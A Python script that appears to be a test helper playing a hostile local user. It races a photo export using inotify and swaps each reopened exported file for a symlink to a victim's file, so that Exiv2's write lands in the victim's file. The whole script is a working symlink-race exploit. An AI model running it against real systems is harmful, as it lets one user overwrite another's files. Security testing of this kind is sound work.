#!/usr/bin/env python3
"""Another user who owns the folder a photo is exported into, and races the export: every time a
file there is opened again after it was written (as Exiv2 reopens a copy by its path to read, then
to write it), the file's name is swapped for a link to the victim's file. The n-th file is swapped
at its n-th reopening, cycling through 1 to 4, so that one of them falls between a read and the
write that follows it. It ends when the stop file appears, or after two minutes at most.

Usage: export-race-attacker.py FOLDER VICTIM STOP-FILE; it prints "ready" once it watches.
"""
import ctypes
import os
import select
import struct
import sys
import time

IN_OPEN, IN_CLOSE_WRITE, IN_CREATE = 0x20, 0x08, 0x100

folder, victim, stop = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
inotify = libc.inotify_init1(os.O_CLOEXEC)
if inotify < 0 or libc.inotify_add_watch(inotify, folder.encode(), IN_OPEN | IN_CLOSE_WRITE | IN_CREATE) < 0:
    sys.exit("inotify: " + os.strerror(ctypes.get_errno()))
print("ready", flush=True)

written = {}   # name -> how many times it was opened since it was written
targets = {}   # name -> at which reopening it is swapped
swaps = 0
deadline = time.monotonic() + 120
while not os.path.exists(stop) and time.monotonic() < deadline:
    if not select.select([inotify], [], [], 0.1)[0]:
        continue
    events = os.read(inotify, 1 << 16)
    offset = 0
    while offset < len(events):
        _, mask, _, length = struct.unpack_from("iIII", events, offset)
        name = events[offset + 16:offset + 16 + length].split(b"\0", 1)[0].decode(errors="replace")
        offset += 16 + length
        if not name or name.startswith(".attacker"):
            continue
        if mask & IN_CLOSE_WRITE and name not in targets:
            written[name] = 0
            targets[name] = len(targets) % 4 + 1
        elif mask & IN_OPEN and name in written:
            written[name] += 1
            if written[name] == targets[name]:
                link = os.path.join(folder, ".attacker-%d" % swaps)
                try:
                    os.symlink(victim, link)
                    os.rename(link, os.path.join(folder, name))
                    swaps += 1
                except OSError:
                    pass
print("swapped %d names" % swaps)
